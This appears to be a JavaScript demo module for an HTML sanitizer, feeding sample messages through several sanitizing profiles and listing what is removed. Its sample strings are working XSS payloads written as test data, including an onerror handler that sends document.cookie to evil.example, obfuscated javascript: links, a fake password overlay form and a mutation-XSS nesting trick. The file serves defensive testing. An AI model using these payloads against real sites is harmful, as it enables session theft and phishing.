/** A message, cleaned. */
import { byId, el, explain, radios } from './dom.js';

const SAMPLES = {
  'A stranger’s message':
    'Hi <b>team</b>, the <a href="javascript:alert(document.cookie)">report</a> is ready' +
    '<img src=x onerror="fetch(\'//evil.example/\' + document.cookie)"><script>steal()</script>',
  'A disguised link': '<a href="jav&#x09;ascript:alert(1)" onmouseover="alert(2)">release notes</a>',
  'A tracking image': '<p>Thanks!</p><img src="https://tracker.example/p.gif?who=ada" width="1" height="1">',
  'A form over the page':
    '<form action="https://evil.example"><div style="position:fixed;inset:0;background:url(//evil.example)">' +
    'Session expired. <input name="password" type="password"></div></form>',
  'Nested to confuse':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'Just text':
    'Plain <em>words</em>, a <code>snippet</code> and <a href="https://example.org/">a link</a> stay as they are.',
};
const PROFILES = ['strict', 'chat', 'markdown', 'webview'];

export function html({ HtmlSanitizer }) {
  const message = byId('message');
  const shown = byId('message-shown');
  let profile = 'chat';
  // A message has no place of its own, so that a URL without a scheme leads nowhere.
  const sanitizers = Object.fromEntries(
    PROFILES.map((name) => [name, new HtmlSanitizer({ profile: name, urls: { relative: 'remove' } })]),
  );

  const update = () => {
    try {
      const report = sanitizers[profile].inspect(message.value);
      shown.innerHTML = report.html;
      byId('message-markup').textContent = report.html;
      byId('message-verdict').textContent = verdict(report);
      byId('message-removed').replaceChildren(...report.removed.map(removal));
    } catch (error) {
      shown.replaceChildren();
      byId('message-markup').textContent = '';
      byId('message-verdict').textContent = explain(error);
      byId('message-removed').replaceChildren();
    }
  };

  radios(byId('message-profile'), 'profile', PROFILES, profile, (value) => {
    profile = value;
    update();
  });
  for (const [name, text] of Object.entries(SAMPLES)) {
    const button = el('button', { type: 'button', className: 'sample' }, name);
    button.addEventListener('click', () => {
      message.value = text;
      update();
    });
    byId('message-samples').append(button);
  }
  message.addEventListener('input', update);
  // A link of the message is shown, not followed: it would leave the page.
  shown.addEventListener('click', (event) => event.preventDefault());
  message.value = Object.values(SAMPLES)[0];
  update();
}

function verdict({ changed, removed }) {
  if (removed.length === 1) return 'One thing was removed';
  if (removed.length > 1) return `${removed.length} things were removed`;
  return changed
    ? 'Nothing was removed; the markup was written out in its canonical form'
    : 'Nothing had to change';
}

function removal({ kind, name, reason, rule }) {
  return el(
    'li',
    {},
    el('span', { className: 'kind' }, kind),
    el('code', {}, name || '—'),
    el('span', { className: 'reason' }, reason),
    el('span', { className: 'rule' }, rule),
  );
}
